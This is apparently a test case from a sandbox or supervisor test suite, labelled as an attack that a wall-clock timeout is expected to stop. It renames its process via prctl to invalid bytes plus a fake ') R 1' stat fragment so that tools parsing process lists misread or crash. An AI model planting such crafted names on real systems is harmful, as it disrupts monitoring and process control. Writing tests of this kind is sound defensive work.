# attack: a process whose name is no text, so that whoever counts or kills processes falls over it
# stopped by: wall clock
# expect: timeout wall
# control: none, without a box nobody counts
# limits: wall_ms=400
import time

from attack import LIBC

SET_NAME = 15
LIBC.prctl(SET_NAME, b"\xff\xfe) R 1", 0, 0, 0)
time.sleep(30)
